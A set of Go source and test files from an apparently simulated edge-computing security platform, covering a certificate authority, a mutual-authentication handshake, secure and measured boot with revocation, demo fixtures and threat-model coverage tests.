		PublicKey:    pub,
		Issuer:       ca.identity.Certificate.Subject,
		NotBefore:    ca.now().Add(-time.Minute),
		NotAfter:     ca.now().Add(ca.validity),
	}
	cert.Signature = ed25519.Sign(ca.identity.PrivateKey, cert.tbs())
	ca.issued++
	return cert, nil
}

// Revoke adds a serial number to the CA revocation list.
func (ca *CA) Revoke(serial string) {
	ca.mu.Lock()
	defer ca.mu.Unlock()
	ca.revoked[serial] = ca.now()
}

// IsRevoked reports whether a serial is on the revocation list.
func (ca *CA) IsRevoked(serial string) bool {
	ca.mu.Lock()
	defer ca.mu.Unlock()
	_, ok := ca.revoked[serial]
	return ok
}

// Issued reports how many certificates this CA has issued.
func (ca *CA) Issued() int {
	ca.mu.Lock()
	defer ca.mu.Unlock()
	return ca.issued
}

// Verify checks that cert was signed by this CA, is within its validity
// window, is not revoked, and (if wantRole != 0) carries the expected role.
func (ca *CA) Verify(cert *Certificate, wantRole Role) error {
	if cert == nil {
		return fmt.Errorf("%w: nil certificate", ErrBadSignature)
	}
	ca.mu.Lock()
	issuerCert := ca.identity.Certificate
	_, revoked := ca.revoked[cert.SerialNumber]
	now := ca.now()
	ca.mu.Unlock()

	if cert.Issuer != issuerCert.Subject {
		return fmt.Errorf("%w: issuer %q", ErrUnknownCA, cert.Issuer)
	}
	if !ed25519.Verify(issuerCert.PublicKey, cert.tbs(), cert.Signature) {
		return fmt.Errorf("%w: subject %q", ErrBadSignature, cert.Subject)
	}
	if now.Before(cert.NotBefore) || now.After(cert.NotAfter) {
		return fmt.Errorf("%w: subject %q valid %s..%s", ErrExpired,
			cert.Subject, cert.NotBefore.Format(time.RFC3339), cert.NotAfter.Format(time.RFC3339))
	}
	if revoked {
		return fmt.Errorf("%w: serial %s", ErrRevoked, cert.SerialNumber)
	}
	if wantRole != 0 && cert.Role != wantRole {
		return fmt.Errorf("%w: got %s, want %s", ErrBadRole, cert.Role, wantRole)
	}
	return nil
}
