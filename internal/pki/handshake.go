package pki

import (
	"crypto/ecdh"
	"crypto/ed25519"
	"crypto/hkdf"
	"crypto/hmac"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
)

// This file implements the mutual-authentication onboarding handshake used
// when an ONU registers against an OLT (M4). It follows the TLS 1.3 pattern:
// ephemeral X25519 key agreement for forward secrecy, certificate exchange,
// signatures over the handshake transcript, and HKDF-derived session keys.
// A rogue device without a CA-issued certificate cannot complete it, which
// is the defense against the ONU-impersonation attack of T1.

// SessionKeys holds the directional traffic secrets derived by a completed
// handshake. Both sides derive identical values.
type SessionKeys struct {
	ClientToServer [32]byte
	ServerToClient [32]byte
}

// HandshakeMessage is one side's contribution: an ephemeral public key, a
// certificate, and a transcript signature proving possession of the
// certified key.
type HandshakeMessage struct {
	EphemeralPub []byte       `json:"ephemeralPub"`
	Cert         *Certificate `json:"cert"`
	Signature    []byte       `json:"signature"`
}

// Handshaker runs one side of the mutual-auth onboarding exchange.
type Handshaker struct {
	identity  *Identity
	ca        *CA
	peerRole  Role
	rand      io.Reader
	ephPriv   *ecdh.PrivateKey
	isClient  bool
	completed bool
	peerCert  *Certificate
	keys      SessionKeys
}

// ErrHandshakeIncomplete is returned when session state is requested before
// the exchange finished.
var ErrHandshakeIncomplete = errors.New("pki: handshake not complete")

// NewHandshaker prepares one endpoint of the handshake. isClient selects the
// key-derivation direction (the ONU is the client, the OLT the server).
// peerRole is the role the remote certificate must carry.
func NewHandshaker(id *Identity, ca *CA, peerRole Role, isClient bool, rnd io.Reader) (*Handshaker, error) {
	if id == nil || id.Certificate == nil {
		return nil, errors.New("pki: handshaker requires an identity")
	}
	priv, err := ecdh.X25519().GenerateKey(rnd)
	if err != nil {
		return nil, fmt.Errorf("ephemeral key: %w", err)
	}
	return &Handshaker{
		identity: id,
		ca:       ca,
		peerRole: peerRole,
		rand:     rnd,
		ephPriv:  priv,
		isClient: isClient,
	}, nil
}

// Offer produces this side's handshake message. The transcript signature
// covers both ephemeral public keys, so Offer for the responder must be
// called with the initiator's message via Accept instead; the initiator
// calls Offer first with a zero peer share and finalizes in Accept.
//
// Protocol (symmetric three-step for simulation purposes):
//  1. client: m1 = Offer()            — eph key + cert, signature over own share
//  2. server: m2, err = Accept(m1)    — verifies, replies, derives keys
//  3. client: err = Finish(m2)        — verifies, derives keys
func (h *Handshaker) Offer() (*HandshakeMessage, error) {
	msg := &HandshakeMessage{
		EphemeralPub: h.ephPriv.PublicKey().Bytes(),
		Cert:         h.identity.Certificate,
	}
	msg.Signature = ed25519.Sign(h.identity.PrivateKey, transcript(msg.EphemeralPub, nil))
	return msg, nil
}

// Accept processes the initiator's offer, producing the responder's reply
// and deriving session keys.
func (h *Handshaker) Accept(offer *HandshakeMessage) (*HandshakeMessage, error) {
	if err := h.verifyPeer(offer, transcript(offer.EphemeralPub, nil)); err != nil {
		return nil, err
	}
	reply := &HandshakeMessage{
		EphemeralPub: h.ephPriv.PublicKey().Bytes(),
		Cert:         h.identity.Certificate,
	}
	reply.Signature = ed25519.Sign(h.identity.PrivateKey, transcript(offer.EphemeralPub, reply.EphemeralPub))
	if err := h.deriveKeys(offer.EphemeralPub); err != nil {
		return nil, err
	}
	h.peerCert = offer.Cert
	h.completed = true
	return reply, nil
}

// Finish processes the responder's reply on the initiator side and derives
// session keys.
func (h *Handshaker) Finish(reply *HandshakeMessage) error {
	myPub := h.ephPriv.PublicKey().Bytes()
	if err := h.verifyPeer(reply, transcript(myPub, reply.EphemeralPub)); err != nil {
		return err
	}
	if err := h.deriveKeys(reply.EphemeralPub); err != nil {
		return err
	}
	h.peerCert = reply.Cert
	h.completed = true
	return nil
}

func (h *Handshaker) verifyPeer(msg *HandshakeMessage, signed []byte) error {
	if msg == nil || msg.Cert == nil {
		return fmt.Errorf("%w: empty handshake message", ErrBadSignature)
	}
	if err := h.ca.Verify(msg.Cert, h.peerRole); err != nil {
		return fmt.Errorf("peer certificate: %w", err)
	}
	if !ed25519.Verify(msg.Cert.PublicKey, signed, msg.Signature) {
		return fmt.Errorf("%w: transcript signature from %q", ErrBadSignature, msg.Cert.Subject)
	}
	return nil
}

func (h *Handshaker) deriveKeys(peerEph []byte) error {
	peerPub, err := ecdh.X25519().NewPublicKey(peerEph)
	if err != nil {
		return fmt.Errorf("peer ephemeral key: %w", err)
	}
	shared, err := h.ephPriv.ECDH(peerPub)
	if err != nil {
		return fmt.Errorf("ecdh: %w", err)
	}
	c2s, err := hkdf.Key(sha256.New, shared, nil, "genio onboarding c2s", 32)
	if err != nil {
		return fmt.Errorf("hkdf c2s: %w", err)
	}
	s2c, err := hkdf.Key(sha256.New, shared, nil, "genio onboarding s2c", 32)
	if err != nil {
		return fmt.Errorf("hkdf s2c: %w", err)
	}
	copy(h.keys.ClientToServer[:], c2s)
	copy(h.keys.ServerToClient[:], s2c)
	return nil
}

// SessionKeys returns the derived traffic secrets after a completed
// handshake.
func (h *Handshaker) SessionKeys() (SessionKeys, error) {
	if !h.completed {
		return SessionKeys{}, ErrHandshakeIncomplete
	}
	return h.keys, nil
}

// PeerCertificate returns the authenticated peer certificate.
func (h *Handshaker) PeerCertificate() (*Certificate, error) {
	if !h.completed {
		return nil, ErrHandshakeIncomplete
	}
	return h.peerCert, nil
}

// KeysMatch reports whether two endpoints derived the same session keys,
// in constant time.
func KeysMatch(a, b SessionKeys) bool {
	return hmac.Equal(a.ClientToServer[:], b.ClientToServer[:]) &&
		hmac.Equal(a.ServerToClient[:], b.ServerToClient[:])
}

func transcript(initiatorEph, responderEph []byte) []byte {
	h := sha256.New()
	h.Write([]byte("genio-onboarding-v1"))
	h.Write(initiatorEph)
	h.Write(responderEph)
	return h.Sum(nil)
}
