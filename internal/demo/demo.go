// Package demo seeds the canonical demo fixture shared by genioctl's
// local (in-process) mode and geniod's -demo flag: a two-node edge
// cluster, a trusted publisher with the signed image set (clean,
// SAST-flagged, vulnerable, malicious), one unsigned hostile image, and
// a wildcard admin role bound to the given control-plane subjects.
//
// Keeping the fixture in one place is what makes "genioctl against a
// -demo geniod" behave identically to "genioctl with no --server": both
// sides operate on the same cluster shape, image set, and RBAC
// bindings.
package demo

import (
	"fmt"

	"genio/internal/container"
	"genio/internal/core"
	"genio/internal/orchestrator"
	"genio/internal/rbac"
)

// Platform builds the demo platform in the given posture and binds each
// subject to a wildcard admin role.
func Platform(cfg core.Config, subjects ...string) (*core.Platform, error) {
	return PlatformOpts(cfg, nil, subjects...)
}

// PlatformOpts is Platform with platform construction options threaded
// through — geniod uses it to attach a durable store (core.WithStore)
// under the demo fixture. Seeding over recovered state is safe: node
// re-registration is skipped for recovered members and the image set is
// content-addressed, so re-pushing it reproduces the digests the
// recovered admission-verdict cache was keyed by.
func PlatformOpts(cfg core.Config, opts []core.Option, subjects ...string) (*core.Platform, error) {
	p, err := core.New(cfg, opts...)
	if err != nil {
		return nil, fmt.Errorf("platform: %w", err)
	}
	if err := Seed(p, subjects...); err != nil {
		p.Close()
		return nil, err
	}
	return p, nil
}

// Seed provisions the fixture onto an existing platform: nodes, images,
// and admin bindings for the given subjects.
func Seed(p *core.Platform, subjects ...string) error {
	for _, node := range []string{"olt-01", "olt-02"} {
		if _, err := p.AddEdgeNode(node, orchestrator.Resources{CPUMilli: 16000, MemoryMB: 32768}); err != nil {
			return fmt.Errorf("edge node %s: %w", node, err)
		}
	}
	pub, err := container.NewPublisher("acme")
	if err != nil {
		return err
	}
	p.Registry.TrustPublisher("acme", pub.PublicKey())
	for _, img := range []*container.Image{
		container.AnalyticsImage(),
		container.IoTGatewayImage(),
		container.MLInferenceImage(),
		container.CryptominerImage(),
	} {
		sig := pub.Sign(img)
		p.Registry.Push(img, &sig)
	}
	p.Registry.Push(container.BackdoorImage(), nil) // unsigned
	p.RBAC.SetRole(rbac.Role{Name: "demo-admin", Permissions: []rbac.Permission{
		{Verb: "*", Resource: "*", Namespace: "*"},
	}})
	for _, subject := range subjects {
		if err := p.RBAC.Bind(subject, "demo-admin"); err != nil {
			return err
		}
	}
	return nil
}

// Workloads deploys n small clean workloads for tenant acme as the
// given subject under the binpack default — stacked traffic, so the
// node-lifecycle subcommands have a hot node to cordon or drain.
func Workloads(p *core.Platform, subject string, n int) error {
	for i := 0; i < n; i++ {
		if _, err := p.Deploy(subject, orchestrator.WorkloadSpec{
			Name: fmt.Sprintf("app-%02d", i), Tenant: "acme",
			ImageRef: "acme/analytics:2.0.1", Isolation: orchestrator.IsolationSoft,
			Resources: orchestrator.Resources{CPUMilli: 500, MemoryMB: 512},
		}); err != nil {
			return fmt.Errorf("fixture deploy %d: %w", i, err)
		}
	}
	return nil
}
