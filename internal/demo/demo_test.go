package demo

import (
	"testing"

	"genio/internal/core"
)

func TestPlatformSeedsFixture(t *testing.T) {
	p, err := Platform(core.SecureConfig(), "ops", "second")
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()

	if got := p.Cluster.Nodes(); len(got) != 2 {
		t.Fatalf("nodes = %v, want olt-01 and olt-02", got)
	}
	// Both subjects hold the demo-admin wildcard: each can deploy.
	if err := Workloads(p, "ops", 2); err != nil {
		t.Fatal(err)
	}
	if err := Workloads(p, "second", 0); err != nil {
		t.Fatal(err)
	}
	if got := len(p.Cluster.Workloads()); got != 2 {
		t.Fatalf("workloads = %d, want 2", got)
	}
	// The unsigned fixture image must be present but refuse a verified
	// pull — that's what makes the hostile demo refs meaningful.
	if _, err := p.Registry.PullVerified("freestuff/log-shipper:3.1"); err == nil {
		t.Fatal("unsigned fixture image pulled verified")
	}
}
