// Package secureboot implements the GENIO boot-integrity chain (M5): a
// Shim-style first-stage loader verified against a platform trust anchor,
// which then verifies GRUB, which verifies the kernel and initrd — with
// every stage also *measured* into TPM PCRs (Measured Boot), so later
// attestation and sealed-storage policies can detect divergence.
//
// The paper uses UEFI Secure Boot with the Microsoft-signed Shim plus
// GENIO's own keys for later stages; we reproduce the same delegation
// structure with Ed25519: a vendor key signs the shim, the shim embeds the
// platform key (MOK-style) that validates every later component.
package secureboot

import (
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"errors"
	"fmt"

	"genio/internal/tpm"
)

// Stage identifies a boot chain stage, in boot order.
type Stage int

// Boot stages.
const (
	StageShim Stage = iota + 1
	StageBootloader
	StageKernel
	StageInitrd
	StageConfig
)

var stageNames = map[Stage]string{
	StageShim:       "shim",
	StageBootloader: "grub",
	StageKernel:     "kernel",
	StageInitrd:     "initrd",
	StageConfig:     "config",
}

// String returns the stage name.
func (s Stage) String() string {
	if n, ok := stageNames[s]; ok {
		return n
	}
	return fmt.Sprintf("stage(%d)", int(s))
}

// pcrForStage maps stages to the PCRs the TCG profile assigns them.
func pcrForStage(s Stage) int {
	switch s {
	case StageShim:
		return tpm.PCRFirmware
	case StageBootloader:
		return tpm.PCRBootloader
	case StageKernel, StageInitrd:
		return tpm.PCRKernel
	default:
		return tpm.PCRConfig
	}
}

// Component is one signed boot artifact.
type Component struct {
	Stage     Stage  `json:"stage"`
	Name      string `json:"name"`
	Image     []byte `json:"image"`
	Signature []byte `json:"signature"`
}

// Errors returned by boot verification.
var (
	ErrVerification = errors.New("secureboot: signature verification failed")
	ErrChainOrder   = errors.New("secureboot: boot chain out of order")
)

// Signer holds the keys that sign boot components: the vendor key (signs
// the shim, standing in for the Microsoft CA) and the platform key (GENIO's
// own, embedded in the shim, signing everything after it).
type Signer struct {
	vendorPriv   ed25519.PrivateKey
	VendorPub    ed25519.PublicKey
	platformPriv ed25519.PrivateKey
	PlatformPub  ed25519.PublicKey
}

// NewSigner generates fresh vendor and platform keys.
func NewSigner() (*Signer, error) {
	vpub, vpriv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("vendor key: %w", err)
	}
	ppub, ppriv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("platform key: %w", err)
	}
	return &Signer{vendorPriv: vpriv, VendorPub: vpub, platformPriv: ppriv, PlatformPub: ppub}, nil
}

// SignComponent produces a signed boot component. The shim is signed by the
// vendor key; all later stages by the platform key.
func (s *Signer) SignComponent(stage Stage, name string, image []byte) Component {
	key := s.platformPriv
	if stage == StageShim {
		key = s.vendorPriv
	}
	return Component{
		Stage:     stage,
		Name:      name,
		Image:     append([]byte(nil), image...),
		Signature: ed25519.Sign(key, componentDigest(stage, name, image)),
	}
}

// SignBinary signs an arbitrary platform binary (daemons, custom tools)
// with the platform key, implementing the M9 requirement that GENIO's own
// artifacts are signature-validated before installation.
func (s *Signer) SignBinary(name string, data []byte) []byte {
	return ed25519.Sign(s.platformPriv, componentDigest(StageConfig, name, data))
}

// VerifyBinary validates a platform binary signature against pub.
func VerifyBinary(pub ed25519.PublicKey, name string, data, sig []byte) error {
	if !ed25519.Verify(pub, componentDigest(StageConfig, name, data), sig) {
		return fmt.Errorf("%w: binary %q", ErrVerification, name)
	}
	return nil
}

func componentDigest(stage Stage, name string, image []byte) []byte {
	h := sha256.New()
	h.Write([]byte("genio-secureboot-v1"))
	h.Write([]byte{byte(stage)})
	h.Write([]byte(name))
	sum := sha256.Sum256(image)
	h.Write(sum[:])
	return h.Sum(nil)
}

// BootResult reports the outcome of one boot attempt.
type BootResult struct {
	Booted      bool     `json:"booted"`
	Verified    []string `json:"verified"`
	FailedStage string   `json:"failedStage,omitempty"`
	// PCRs holds the post-boot values of the boot-relevant PCRs; sealed
	// storage and attestation key off these.
	PCRs map[int]tpm.Digest `json:"pcrs"`
}

// Firmware is the platform boot ROM: it holds the vendor trust anchor and
// the TPM, and executes boot chains. SecureBoot can be toggled to model the
// unprotected legacy configuration.
type Firmware struct {
	VendorPub  ed25519.PublicKey
	TPM        *tpm.TPM
	SecureBoot bool
	// MeasuredBoot controls whether components are extended into PCRs.
	MeasuredBoot bool
	// dbx is the forbidden-image database (UEFI dbx): digests of revoked
	// components that must not execute even with a valid signature —
	// how the ecosystem handled vulnerable-but-signed bootloaders
	// (BootHole-class incidents).
	dbx map[[sha256.Size]byte]string
}

// NewFirmware builds firmware with the vendor trust anchor and TPM.
func NewFirmware(vendorPub ed25519.PublicKey, t *tpm.TPM) *Firmware {
	return &Firmware{
		VendorPub: vendorPub, TPM: t, SecureBoot: true, MeasuredBoot: true,
		dbx: make(map[[sha256.Size]byte]string),
	}
}

// ErrRevoked is returned when a boot component appears in the dbx.
var ErrRevoked = errors.New("secureboot: component revoked (dbx)")

// RevokeImage adds an image's digest to the forbidden database with a
// human-readable reason.
func (f *Firmware) RevokeImage(image []byte, reason string) {
	f.dbx[sha256.Sum256(image)] = reason
}

// RevokedReason reports whether an image is in the dbx.
func (f *Firmware) RevokedReason(image []byte) (string, bool) {
	r, ok := f.dbx[sha256.Sum256(image)]
	return r, ok
}

// Boot executes a boot chain. Components must be presented in stage order:
// shim first. Under Secure Boot each component's signature is verified
// before "execution" — the shim against the vendor key, later stages against
// the platform key carried by the shim (platformPub). Under Measured Boot
// each component is extended into its PCR regardless of verification, which
// is what lets sealed secrets detect tampering even when Secure Boot is off.
func (f *Firmware) Boot(platformPub ed25519.PublicKey, chain []Component) (*BootResult, error) {
	res := &BootResult{PCRs: make(map[int]tpm.Digest)}
	if len(chain) == 0 {
		return res, fmt.Errorf("%w: empty chain", ErrChainOrder)
	}
	if chain[0].Stage != StageShim {
		return res, fmt.Errorf("%w: first stage %s, want shim", ErrChainOrder, chain[0].Stage)
	}
	last := Stage(0)
	for _, c := range chain {
		if c.Stage < last {
			return res, fmt.Errorf("%w: %s after %s", ErrChainOrder, c.Stage, last)
		}
		last = c.Stage

		if f.MeasuredBoot && f.TPM != nil {
			if _, err := f.TPM.Extend(pcrForStage(c.Stage), c.Name, c.Image); err != nil {
				return res, fmt.Errorf("measure %s: %w", c.Name, err)
			}
		}
		if f.SecureBoot {
			if reason, revoked := f.dbx[sha256.Sum256(c.Image)]; revoked {
				res.FailedStage = c.Stage.String()
				return res, fmt.Errorf("%w: component %q (%s)", ErrRevoked, c.Name, reason)
			}
			pub := platformPub
			if c.Stage == StageShim {
				pub = f.VendorPub
			}
			if !ed25519.Verify(pub, componentDigest(c.Stage, c.Name, c.Image), c.Signature) {
				res.FailedStage = c.Stage.String()
				return res, fmt.Errorf("%w: stage %s component %q", ErrVerification, c.Stage, c.Name)
			}
		}
		res.Verified = append(res.Verified, c.Name)
	}
	if f.MeasuredBoot && f.TPM != nil {
		for _, pcr := range []int{tpm.PCRFirmware, tpm.PCRBootloader, tpm.PCRKernel, tpm.PCRConfig} {
			v, err := f.TPM.PCR(pcr)
			if err != nil {
				return res, err
			}
			res.PCRs[pcr] = v
		}
	}
	res.Booted = true
	return res, nil
}

// GoldenPCRs computes the PCR values a pristine boot of the given chain
// would produce, without touching a real TPM. Verifiers compare attestation
// quotes against these.
func GoldenPCRs(chain []Component) map[int]tpm.Digest {
	events := make([]tpm.Event, 0, len(chain))
	for _, c := range chain {
		events = append(events, tpm.Event{
			PCR:      pcrForStage(c.Stage),
			Measured: sha256.Sum256(c.Image),
		})
	}
	return tpm.ReplayLog(events)
}
