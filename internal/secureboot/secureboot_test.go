package secureboot

import (
	"errors"
	"testing"

	"genio/internal/tpm"
)

func testChain(t *testing.T, s *Signer) []Component {
	t.Helper()
	return []Component{
		s.SignComponent(StageShim, "shim", []byte("shim-image-v15")),
		s.SignComponent(StageBootloader, "grub", []byte("grub-image-2.06")),
		s.SignComponent(StageKernel, "kernel", []byte("vmlinuz-onl-4.19")),
		s.SignComponent(StageInitrd, "initrd", []byte("initrd-onl")),
		s.SignComponent(StageConfig, "cmdline", []byte("mitigations=auto quiet")),
	}
}

func newFirmware(t *testing.T, s *Signer) *Firmware {
	t.Helper()
	tp, err := tpm.New()
	if err != nil {
		t.Fatalf("tpm.New: %v", err)
	}
	return NewFirmware(s.VendorPub, tp)
}

func TestCleanBootSucceeds(t *testing.T) {
	s, err := NewSigner()
	if err != nil {
		t.Fatal(err)
	}
	fw := newFirmware(t, s)
	res, err := fw.Boot(s.PlatformPub, testChain(t, s))
	if err != nil {
		t.Fatalf("Boot: %v", err)
	}
	if !res.Booted || len(res.Verified) != 5 {
		t.Fatalf("result = %+v", res)
	}
	if len(res.PCRs) == 0 {
		t.Fatal("no PCRs recorded")
	}
}

func TestTamperedKernelBlocked(t *testing.T) {
	s, err := NewSigner()
	if err != nil {
		t.Fatal(err)
	}
	fw := newFirmware(t, s)
	chain := testChain(t, s)
	chain[2].Image = []byte("evil-kernel") // signature now stale
	res, err := fw.Boot(s.PlatformPub, chain)
	if !errors.Is(err, ErrVerification) {
		t.Fatalf("err = %v, want ErrVerification", err)
	}
	if res.Booted {
		t.Fatal("tampered chain booted")
	}
	if res.FailedStage != "kernel" {
		t.Fatalf("FailedStage = %q, want kernel", res.FailedStage)
	}
}

func TestUnsignedShimBlocked(t *testing.T) {
	s, err := NewSigner()
	if err != nil {
		t.Fatal(err)
	}
	rogue, err := NewSigner() // attacker's own keys
	if err != nil {
		t.Fatal(err)
	}
	fw := newFirmware(t, s)
	chain := testChain(t, rogue) // entire chain signed by rogue keys
	if _, err := fw.Boot(rogue.PlatformPub, chain); !errors.Is(err, ErrVerification) {
		t.Fatalf("err = %v, want ErrVerification (vendor anchor must reject rogue shim)", err)
	}
}

func TestSecureBootOffBootsTamperedChain(t *testing.T) {
	// With Secure Boot disabled the tampered chain boots — but Measured
	// Boot still records the divergence, which sealed storage detects.
	s, err := NewSigner()
	if err != nil {
		t.Fatal(err)
	}
	fw := newFirmware(t, s)
	fw.SecureBoot = false
	chain := testChain(t, s)
	chain[2].Image = []byte("evil-kernel")
	res, err := fw.Boot(s.PlatformPub, chain)
	if err != nil || !res.Booted {
		t.Fatalf("Boot = %+v, %v", res, err)
	}
	golden := GoldenPCRs(testChain(t, s))
	if res.PCRs[tpm.PCRKernel] == golden[tpm.PCRKernel] {
		t.Fatal("tampered kernel produced golden PCR value")
	}
}

func TestGoldenPCRsMatchCleanBoot(t *testing.T) {
	s, err := NewSigner()
	if err != nil {
		t.Fatal(err)
	}
	fw := newFirmware(t, s)
	chain := testChain(t, s)
	res, err := fw.Boot(s.PlatformPub, chain)
	if err != nil {
		t.Fatal(err)
	}
	golden := GoldenPCRs(chain)
	for pcr, want := range golden {
		if res.PCRs[pcr] != want {
			t.Errorf("PCR %d = %s, want golden %s", pcr, res.PCRs[pcr], want)
		}
	}
}

func TestChainOrderEnforced(t *testing.T) {
	s, err := NewSigner()
	if err != nil {
		t.Fatal(err)
	}
	fw := newFirmware(t, s)
	chain := testChain(t, s)
	// Kernel before bootloader.
	bad := []Component{chain[0], chain[2], chain[1]}
	if _, err := fw.Boot(s.PlatformPub, bad); !errors.Is(err, ErrChainOrder) {
		t.Fatalf("err = %v, want ErrChainOrder", err)
	}
	// Missing shim.
	if _, err := fw.Boot(s.PlatformPub, chain[1:]); !errors.Is(err, ErrChainOrder) {
		t.Fatalf("err = %v, want ErrChainOrder", err)
	}
	// Empty chain.
	if _, err := fw.Boot(s.PlatformPub, nil); !errors.Is(err, ErrChainOrder) {
		t.Fatalf("err = %v, want ErrChainOrder", err)
	}
}

func TestAttestationDetectsTamperAfterBoot(t *testing.T) {
	s, err := NewSigner()
	if err != nil {
		t.Fatal(err)
	}
	tp, err := tpm.New()
	if err != nil {
		t.Fatal(err)
	}
	fw := NewFirmware(s.VendorPub, tp)
	fw.SecureBoot = false // attacker disabled verification
	chain := testChain(t, s)
	chain[2].Image = []byte("evil-kernel")
	if _, err := fw.Boot(s.PlatformPub, chain); err != nil {
		t.Fatal(err)
	}
	// Remote verifier quotes the kernel PCR and compares to golden.
	q, err := tp.Quote([]int{tpm.PCRKernel}, []byte("nonce"))
	if err != nil {
		t.Fatal(err)
	}
	golden := GoldenPCRs(testChain(t, s))
	err = tpm.VerifyQuote(tp.AttestationPublicKey(), q, map[int]tpm.Digest{tpm.PCRKernel: golden[tpm.PCRKernel]})
	if !errors.Is(err, tpm.ErrBadQuote) {
		t.Fatalf("err = %v, want ErrBadQuote (attestation must catch tampering)", err)
	}
}

func TestBinarySigning(t *testing.T) {
	s, err := NewSigner()
	if err != nil {
		t.Fatal(err)
	}
	bin := []byte("genio-agent-binary")
	sig := s.SignBinary("genio-agent", bin)
	if err := VerifyBinary(s.PlatformPub, "genio-agent", bin, sig); err != nil {
		t.Fatalf("VerifyBinary: %v", err)
	}
	// Tampered binary rejected.
	if err := VerifyBinary(s.PlatformPub, "genio-agent", append(bin, 'x'), sig); !errors.Is(err, ErrVerification) {
		t.Fatalf("err = %v, want ErrVerification", err)
	}
	// Renamed binary rejected (signature binds the name).
	if err := VerifyBinary(s.PlatformPub, "other-tool", bin, sig); !errors.Is(err, ErrVerification) {
		t.Fatalf("err = %v, want ErrVerification", err)
	}
}

func TestStageString(t *testing.T) {
	if StageShim.String() != "shim" || Stage(42).String() != "stage(42)" {
		t.Fatal("Stage.String mismatch")
	}
}

func TestRevokedComponentBlockedDespiteValidSignature(t *testing.T) {
	s, err := NewSigner()
	if err != nil {
		t.Fatal(err)
	}
	fw := newFirmware(t, s)
	chain := testChain(t, s)
	// The (validly signed) GRUB build is later found vulnerable and
	// revoked via dbx — it must no longer boot.
	fw.RevokeImage([]byte("grub-image-2.06"), "BootHole-class vulnerability")
	res, err := fw.Boot(s.PlatformPub, chain)
	if !errors.Is(err, ErrRevoked) {
		t.Fatalf("err = %v, want ErrRevoked", err)
	}
	if res.Booted || res.FailedStage != "grub" {
		t.Fatalf("result = %+v", res)
	}
	if reason, ok := fw.RevokedReason([]byte("grub-image-2.06")); !ok || reason == "" {
		t.Fatal("RevokedReason lookup failed")
	}
}

func TestRevocationIgnoredWhenSecureBootOff(t *testing.T) {
	s, err := NewSigner()
	if err != nil {
		t.Fatal(err)
	}
	fw := newFirmware(t, s)
	fw.SecureBoot = false
	fw.RevokeImage([]byte("grub-image-2.06"), "revoked")
	if _, err := fw.Boot(s.PlatformPub, testChain(t, s)); err != nil {
		t.Fatalf("dbx must be a Secure Boot feature; boot failed: %v", err)
	}
}

func TestPatchedComponentBootsAfterRevocation(t *testing.T) {
	s, err := NewSigner()
	if err != nil {
		t.Fatal(err)
	}
	fw := newFirmware(t, s)
	fw.RevokeImage([]byte("grub-image-2.06"), "vulnerable build")
	chain := testChain(t, s)
	chain[1] = s.SignComponent(StageBootloader, "grub", []byte("grub-image-2.12"))
	res, err := fw.Boot(s.PlatformPub, chain)
	if err != nil || !res.Booted {
		t.Fatalf("patched grub rejected: %v", err)
	}
}
