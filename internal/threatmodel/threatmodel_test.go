package threatmodel

import (
	"strings"
	"testing"
)

func TestGENIOModelValid(t *testing.T) {
	if err := GENIOModel().Validate(); err != nil {
		t.Fatalf("Validate: %v", err)
	}
}

func TestGENIOModelShape(t *testing.T) {
	m := GENIOModel()
	if len(m.Threats) != 8 {
		t.Fatalf("threats = %d, want 8 (T1..T8)", len(m.Threats))
	}
	if len(m.Mitigations) != 18 {
		t.Fatalf("mitigations = %d, want 18 (M1..M18)", len(m.Mitigations))
	}
}

func TestEveryThreatCovered(t *testing.T) {
	if un := GENIOModel().Uncovered(); len(un) != 0 {
		t.Fatalf("uncovered threats: %v", un)
	}
}

func TestPaperCoverageMapping(t *testing.T) {
	cov := GENIOModel().Coverage()
	want := map[string][]string{
		"T1": {"M3", "M4"},
		"T2": {"M5", "M6", "M7", "M9"},
		"T3": {"M1", "M2"},
		"T4": {"M8", "M9"},
		"T5": {"M10", "M11"},
		"T6": {"M12"},
		"T7": {"M13", "M14", "M15"},
		"T8": {"M16", "M17", "M18"},
	}
	for tid, wantMits := range want {
		got := cov[tid]
		if len(got) != len(wantMits) {
			t.Errorf("%s coverage = %v, want %v", tid, got, wantMits)
			continue
		}
		for i := range wantMits {
			if got[i] != wantMits[i] {
				t.Errorf("%s coverage = %v, want %v", tid, got, wantMits)
				break
			}
		}
	}
}

func TestLayerAssignments(t *testing.T) {
	m := GENIOModel()
	layers := map[string]Layer{
		"T1": LayerInfrastructure, "T4": LayerInfrastructure,
		"T5": LayerMiddleware, "T6": LayerMiddleware,
		"T7": LayerApplication, "T8": LayerApplication,
	}
	for tid, want := range layers {
		th, ok := m.ThreatByID(tid)
		if !ok || th.Layer != want {
			t.Errorf("%s layer = %v, want %v", tid, th.Layer, want)
		}
	}
}

func TestEveryMitigationHasModule(t *testing.T) {
	for _, mit := range GENIOModel().Mitigations {
		if mit.Module == "" {
			t.Errorf("%s has no implementing module", mit.ID)
		}
		if len(mit.Tools) == 0 {
			t.Errorf("%s names no tools", mit.ID)
		}
	}
}

func TestValidateCatchesBrokenModels(t *testing.T) {
	dup := &Model{Threats: []Threat{{ID: "T1"}, {ID: "T1"}}}
	if err := dup.Validate(); err == nil {
		t.Fatal("duplicate threat accepted")
	}
	dangling := &Model{
		Threats:     []Threat{{ID: "T1"}},
		Mitigations: []Mitigation{{ID: "M1", Mitigates: []string{"T9"}}},
	}
	if err := dangling.Validate(); err == nil {
		t.Fatal("dangling reference accepted")
	}
	useless := &Model{
		Threats:     []Threat{{ID: "T1"}},
		Mitigations: []Mitigation{{ID: "M1"}},
	}
	if err := useless.Validate(); err == nil {
		t.Fatal("mitigation without targets accepted")
	}
	dupMit := &Model{
		Threats: []Threat{{ID: "T1"}},
		Mitigations: []Mitigation{
			{ID: "M1", Mitigates: []string{"T1"}},
			{ID: "M1", Mitigates: []string{"T1"}},
		},
	}
	if err := dupMit.Validate(); err == nil {
		t.Fatal("duplicate mitigation accepted")
	}
}

func TestUncoveredDetection(t *testing.T) {
	m := &Model{
		Threats:     []Threat{{ID: "T1"}, {ID: "T2"}},
		Mitigations: []Mitigation{{ID: "M1", Mitigates: []string{"T1"}}},
	}
	un := m.Uncovered()
	if len(un) != 1 || un[0] != "T2" {
		t.Fatalf("Uncovered = %v", un)
	}
}

